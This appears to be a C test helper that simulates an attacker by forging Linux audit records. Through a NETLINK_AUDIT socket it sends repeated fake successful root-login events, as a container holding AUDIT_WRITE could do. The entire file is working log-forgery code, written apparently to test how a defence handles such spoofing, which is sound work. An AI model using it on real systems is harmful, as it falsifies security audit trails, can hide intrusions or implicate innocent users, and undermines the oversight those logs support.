/*
 * Sends user-space audit records as a container may that was given AUDIT_WRITE (Docker gives it by default): "USER_LOGIN" of somebody who
 * never came. In C, since no crate of ours opens NETLINK_AUDIT for an attacker. Usage: attacker-forge COUNT TEXT
 */
#include <errno.h>
#include <linux/audit.h>
#include <linux/netlink.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* AUDIT_USER_LOGIN of libaudit, which the kernel header leaves to user space. */
#define USER_LOGIN 1112

int main(int argc, char **argv) {
	struct {
		struct nlmsghdr head;
		char text[512];
	} message;
	struct sockaddr_nl kernel = {.nl_family = AF_NETLINK};
	int count = argc > 1 ? atoi(argv[1]) : 1;
	int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_AUDIT);
	if (fd < 0) {
		perror("socket");
		return 1;
	}
	for (int i = 0; i < count; i++) {
		memset(&message, 0, sizeof message);
		snprintf(message.text, sizeof message.text, "op=login acct=\"root\" %s %d res=success", argc > 2 ? argv[2] : "", i);
		message.head.nlmsg_len = NLMSG_LENGTH(strlen(message.text) + 1);
		message.head.nlmsg_type = USER_LOGIN;
		message.head.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK;
		if (sendto(fd, &message, message.head.nlmsg_len, 0, (struct sockaddr *)&kernel, sizeof kernel) < 0) {
			perror("sendto");
			return 1;
		}
		char answer[256];
		if (recv(fd, answer, sizeof answer, 0) < 0) {
			perror("recv");
			return 1;
		}
		int error = ((struct nlmsgerr *)NLMSG_DATA((struct nlmsghdr *)answer))->error;
		if (error) {
			fprintf(stderr, "refused: %s\n", strerror(-error));
			return 3;
		}
	}
	return 0;
}
